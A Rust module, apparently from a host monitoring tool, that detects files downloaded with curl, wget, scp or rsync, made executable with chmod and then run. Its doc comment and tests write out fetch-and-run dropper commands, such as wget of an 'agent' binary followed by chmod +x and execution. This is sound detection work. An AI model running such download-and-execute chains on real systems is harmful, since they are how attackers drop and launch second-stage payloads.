//! Files downloaded, made executable and run: the classic drop of a second stage
//! (`wget http://x/a -O /tmp/a; chmod +x /tmp/a; /tmp/a`, or `curl -O …; sh ./a.sh`).
//!
//! Each exec of a transfer tool leaves the path it writes (read from its own syntax:
//! curl's `-o`/`-O`/`--output-dir`, wget's `-O`/`-P` or the URL's file name, scp and rsync
//! copying from a remote), each `chmod` that adds an execute bit marks the paths it names,
//! and an exec of one of those paths (or a shell or interpreter given one as its script)
//! within [`WINDOW`] is named with the download that wrote it.

use crate::pipes::is_shell_or_interpreter;
use crate::procfs::ProcessInfo;
use std::collections::VecDeque;
use std::path::{Component, Path, PathBuf};
use std::time::{Duration, Instant};

/// How long a download is remembered.
pub const WINDOW: Duration = Duration::from_secs(600);
/// Downloads remembered at most.
const MAX_DOWNLOADS: usize = 1024;

/// The download a run program came from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DownloadOrigin {
    /// The command line of the transfer that wrote the file.
    pub command_line: String,
    /// The command line of the `chmod` that made it executable, if one was seen.
    pub chmod: Option<String>,
}

/// One file written by a transfer.
struct Download {
    path: PathBuf,
    origin: DownloadOrigin,
    at: Instant,
}

/// Recent downloads.
#[derive(Default)]
pub struct DownloadTracker {
    downloads: VecDeque<Download>,
}

impl DownloadTracker {
    /// Notes what the exec of `info` downloads or makes executable, and returns the
    /// download it runs, if it runs one.
    pub fn observe(&mut self, info: &ProcessInfo) -> Option<DownloadOrigin> {
        self.expire();
        let argv = effective_argv(&info.argv);
        let program = argv.first().map(|a| base_name(a)).unwrap_or_default();
        let cwd = info.cwd.as_deref().map(Path::new);
        let ran = self.run_of(info, &argv, cwd);
        if let Some(paths) = written_by(program, &argv[1.min(argv.len())..]) {
            let command_line = info.command_line().unwrap_or_default();
            for path in paths {
                self.remember(resolve(&path, cwd), &command_line);
            }
        } else if program == "chmod" && adds_execute(&argv[1..]) {
            let command_line = info.command_line().unwrap_or_default();
            for arg in argv[1..].iter().filter(|a| !a.starts_with('-')).skip(1) {
                let path = resolve(arg, cwd);
                for download in self.downloads.iter_mut().filter(|d| d.path == path) {
                    download.origin.chmod = Some(command_line.clone());
                }
            }
        }
        ran
    }

    /// The download `info` runs: its executable, or the script a shell or interpreter
    /// was given.
    fn run_of(
        &self,
        info: &ProcessInfo,
        argv: &[String],
        cwd: Option<&Path>,
    ) -> Option<DownloadOrigin> {
        // The kernel names the file as it was given to execve (`./a`), /proc resolves it.
        let mut candidates: Vec<PathBuf> =
            info.executable.iter().map(|e| resolve(e, cwd)).collect();
        if info.name().is_some_and(|n| is_shell_or_interpreter(&n))
            && let Some(script) = argv.iter().skip(1).find(|a| !a.starts_with('-'))
        {
            candidates.push(resolve(script, cwd));
        }
        self.downloads
            .iter()
            .rev()
            .find(|d| candidates.contains(&d.path))
            .map(|d| d.origin.clone())
    }

    fn remember(&mut self, path: PathBuf, command_line: &str) {
        self.downloads.retain(|d| d.path != path);
        if self.downloads.len() >= MAX_DOWNLOADS {
            self.downloads.pop_front();
        }
        self.downloads.push_back(Download {
            path,
            origin: DownloadOrigin {
                command_line: command_line.to_string(),
                chmod: None,
            },
            at: Instant::now(),
        });
    }

    fn expire(&mut self) {
        while self
            .downloads
            .front()
            .is_some_and(|d| d.at.elapsed() > WINDOW)
        {
            self.downloads.pop_front();
        }
    }

    /// Downloads remembered now.
    pub fn len(&self) -> usize {
        self.downloads.len()
    }

    /// Whether none is remembered.
    pub fn is_empty(&self) -> bool {
        self.downloads.is_empty()
    }
}

/// The argv of the program that does the work: `busybox wget …` is wget's.
fn effective_argv(argv: &[String]) -> Vec<String> {
    match argv.first().map(|a| base_name(a)) {
        Some("busybox") if argv.len() > 1 => argv[1..].to_vec(),
        _ => argv.to_vec(),
    }
}

fn base_name(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// The paths a transfer tool writes, read from its arguments; `None` for other programs.
fn written_by(program: &str, args: &[String]) -> Option<Vec<String>> {
    match program {
        "curl" => Some(curl_outputs(args)),
        "wget" | "wget2" => Some(wget_outputs(args)),
        "scp" | "rsync" => Some(copy_outputs(args)),
        _ => None,
    }
}

/// The value of an option given as `-oVALUE`, `-o VALUE`, inside a cluster of short
/// flags (`-fsSLo FILE`, `-qO-`), `--name=VALUE` or `--name VALUE`, advancing `i` past
/// it.
fn option_value(args: &[String], i: &mut usize, short: Option<char>, long: &str) -> Option<String> {
    let arg = &args[*i];
    if let Some(rest) = arg.strip_prefix("--") {
        let long = long.strip_prefix("--")?;
        if let Some(value) = rest.strip_prefix(long).and_then(|v| v.strip_prefix('=')) {
            return Some(value.to_string());
        }
        if rest == long {
            *i += 1;
            return args.get(*i).cloned();
        }
        return None;
    }
    let cluster = arg.strip_prefix('-').filter(|c| !c.is_empty())?;
    let at = cluster.find(short?)?;
    let value = &cluster[at + 1..];
    if value.is_empty() {
        *i += 1;
        return args.get(*i).cloned();
    }
    Some(value.to_string())
}

fn is_url(arg: &str) -> bool {
    arg.contains("://")
}

/// The file name a URL's path ends with (what `curl -O` and `wget` name the file).
fn url_file_name(url: &str) -> Option<String> {
    let path = url.split("://").nth(1)?.split(['?', '#']).next()?;
    let (_, path) = path.split_once('/')?;
    let name = path.rsplit('/').next()?;
    (!name.is_empty()).then(|| name.to_string())
}

fn curl_outputs(args: &[String]) -> Vec<String> {
    let mut outputs = Vec::new();
    let mut remote_name = false;
    let mut folder: Option<String> = None;
    let mut urls = Vec::new();
    let mut i = 0;
    while i < args.len() {
        if let Some(path) = option_value(args, &mut i, Some('o'), "--output") {
            outputs.push(path);
        } else if let Some(dir) = option_value(args, &mut i, None, "--output-dir") {
            folder = Some(dir);
        } else if args[i] == "--remote-name"
            || args[i] == "--remote-name-all"
            || (args[i].starts_with('-') && !args[i].starts_with("--") && args[i].contains('O'))
        {
            remote_name = true;
        } else if is_url(&args[i]) {
            urls.push(args[i].clone());
        }
        i += 1;
    }
    if remote_name {
        for name in urls.iter().filter_map(|u| url_file_name(u)) {
            outputs.push(match &folder {
                Some(dir) => format!("{dir}/{name}"),
                None => name,
            });
        }
    }
    outputs.retain(|o| o != "-" && o != "/dev/null");
    outputs
}

fn wget_outputs(args: &[String]) -> Vec<String> {
    let mut document = None;
    let mut folder: Option<String> = None;
    let mut urls = Vec::new();
    let mut i = 0;
    while i < args.len() {
        if let Some(path) = option_value(args, &mut i, Some('O'), "--output-document") {
            document = Some(path);
        } else if let Some(dir) = option_value(args, &mut i, Some('P'), "--directory-prefix") {
            folder = Some(dir);
        } else if is_url(&args[i]) {
            urls.push(args[i].clone());
        }
        i += 1;
    }
    match document {
        Some(path) if path == "-" || path == "/dev/null" => Vec::new(),
        Some(path) => vec![path],
        None => urls
            .iter()
            .filter_map(|u| url_file_name(u))
            .map(|name| match &folder {
                Some(dir) => format!("{dir}/{name}"),
                None => name,
            })
            .collect(),
    }
}

/// scp and rsync from a remote (`host:path`) to a local path: the destination, or the
/// source's file name inside a destination folder.
fn copy_outputs(args: &[String]) -> Vec<String> {
    let operands: Vec<&String> = args.iter().filter(|a| !a.starts_with('-')).collect();
    let Some((destination, sources)) = operands.split_last() else {
        return Vec::new();
    };
    let remote = |a: &str| a.contains(':') && !a.starts_with('/');
    if remote(destination) || !sources.iter().any(|s| remote(s)) {
        return Vec::new();
    }
    if destination.ends_with('/') || Path::new(destination.as_str()).is_dir() {
        sources
            .iter()
            .filter_map(|s| s.rsplit(['/', ':']).next())
            .map(|name| format!("{}/{name}", destination.trim_end_matches('/')))
            .collect()
    } else {
        vec![destination.to_string()]
    }
}

/// Whether chmod's arguments add an execute bit (`+x`, `u+x`, `a+rx`, `755`, `0700`).
fn adds_execute(args: &[String]) -> bool {
    let Some(mode) = args
        .iter()
        .find(|a| !a.starts_with('-') || a.starts_with("-x"))
    else {
        return false;
    };
    if mode.bytes().all(|b| b.is_ascii_digit()) {
        return mode.bytes().any(|b| matches!(b, b'1' | b'3' | b'5' | b'7'));
    }
    mode.split(',').any(|clause| {
        clause.contains('+') && clause.rsplit('+').next().is_some_and(|p| p.contains('x'))
    }) || mode.split(',').any(|clause| {
        clause.contains('=') && clause.rsplit('=').next().is_some_and(|p| p.contains('x'))
    })
}

/// `path` made absolute against `cwd` and cleaned of `.` and `..`.
fn resolve(path: &str, cwd: Option<&Path>) -> PathBuf {
    let joined = match cwd {
        Some(cwd) if !path.starts_with('/') => cwd.join(path),
        _ => PathBuf::from(path),
    };
    let mut clean = PathBuf::new();
    for component in joined.components() {
        match component {
            Component::ParentDir => {
                clean.pop();
            }
            Component::CurDir => {}
            other => clean.push(other),
        }
    }
    clean
}

#[cfg(test)]
mod tests {
    use super::*;

    fn exec(cwd: &str, executable: &str, argv: &[&str]) -> ProcessInfo {
        ProcessInfo {
            pid: 1,
            executable: Some(executable.to_string()),
            argv: argv.iter().map(|a| a.to_string()).collect(),
            cwd: Some(cwd.to_string()),
            ..ProcessInfo::default()
        }
    }

    #[test]
    fn a_download_made_executable_and_run_is_named() {
        let mut tracker = DownloadTracker::default();
        assert!(
            tracker
                .observe(&exec(
                    "/tmp",
                    "/usr/bin/wget",
                    &["wget", "-q", "http://198.51.100.7/x/agent"]
                ))
                .is_none()
        );
        tracker.observe(&exec("/tmp", "/usr/bin/chmod", &["chmod", "+x", "agent"]));
        let origin = tracker
            .observe(&exec("/tmp", "/tmp/agent", &["./agent"]))
            .expect("the run is tied to the download");
        assert!(origin.command_line.contains("198.51.100.7"));
        assert_eq!(origin.chmod.as_deref(), Some("chmod +x agent"));
    }

    #[test]
    fn outputs_are_read_from_each_tools_syntax() {
        let args = |a: &[&str]| a.iter().map(|s| s.to_string()).collect::<Vec<_>>();
        assert_eq!(
            curl_outputs(&args(&["-fsSL", "-o", "/tmp/a", "http://x/y"])),
            ["/tmp/a"]
        );
        assert_eq!(curl_outputs(&args(&["-o/tmp/b", "http://x/y"])), ["/tmp/b"]);
        assert_eq!(
            curl_outputs(&args(&["-O", "http://x/d/run.sh?v=1"])),
            ["run.sh"]
        );
        assert_eq!(
            curl_outputs(&args(&["--output-dir", "/dev/shm", "-O", "http://x/k"])),
            ["/dev/shm/k"]
        );
        assert!(curl_outputs(&args(&["http://x/y"])).is_empty(), "to stdout");
        assert!(curl_outputs(&args(&["-o", "/dev/null", "http://x/y"])).is_empty());
        assert_eq!(wget_outputs(&args(&["http://x/a/b.bin"])), ["b.bin"]);
        assert_eq!(
            wget_outputs(&args(&["-O", "/tmp/c", "http://x/a"])),
            ["/tmp/c"]
        );
        assert_eq!(
            wget_outputs(&args(&["--output-document=/tmp/d", "http://x/a"])),
            ["/tmp/d"]
        );
        assert_eq!(
            wget_outputs(&args(&["-P", "/var/tmp", "http://x/a/e"])),
            ["/var/tmp/e"]
        );
        assert!(wget_outputs(&args(&["-qO-", "http://x/a"])).is_empty());
        assert_eq!(
            wget_outputs(&args(&["-qO", "/tmp/f", "http://x/a"])),
            ["/tmp/f"]
        );
        assert_eq!(
            curl_outputs(&args(&["-fsSLo", "/tmp/g", "http://x/y"])),
            ["/tmp/g"]
        );
        assert_eq!(curl_outputs(&args(&["-sO", "http://x/h"])), ["h"]);
        assert!(curl_outputs(&args(&["-H", "X-Output: o", "http://x/y"])).is_empty());
        assert_eq!(
            copy_outputs(&args(&["u@h:/srv/tool", "/tmp/tool"])),
            ["/tmp/tool"]
        );
        assert!(
            copy_outputs(&args(&["/tmp/tool", "u@h:/srv/"])).is_empty(),
            "an upload"
        );
    }

    #[test]
    fn a_script_given_to_a_shell_counts_and_other_files_do_not() {
        let mut tracker = DownloadTracker::default();
        tracker.observe(&exec(
            "/home/a",
            "/usr/bin/curl",
            &["curl", "-O", "http://x/i.sh"],
        ));
        let origin = tracker.observe(&exec("/home/a", "/usr/bin/bash", &["bash", "./i.sh"]));
        assert!(origin.is_some_and(|o| o.chmod.is_none()));
        // Another file, and the same name elsewhere, are not the download.
        assert!(
            tracker
                .observe(&exec("/home/a", "/usr/bin/bash", &["bash", "other.sh"]))
                .is_none()
        );
        assert!(
            tracker
                .observe(&exec("/", "/usr/bin/bash", &["bash", "i.sh"]))
                .is_none()
        );
        assert!(
            tracker
                .observe(&exec("/home/a", "/usr/bin/cat", &["cat", "i.sh"]))
                .is_none()
        );
    }

    #[test]
    fn chmod_modes_that_add_execution() {
        let args = |a: &[&str]| a.iter().map(|s| s.to_string()).collect::<Vec<_>>();
        for mode in ["+x", "u+x", "a+rx", "755", "0700", "u=rwx"] {
            assert!(adds_execute(&args(&[mode, "f"])), "{mode}");
        }
        for mode in ["644", "-x", "u-x", "go-w", "0600"] {
            assert!(!adds_execute(&args(&[mode, "f"])), "{mode}");
        }
    }
}
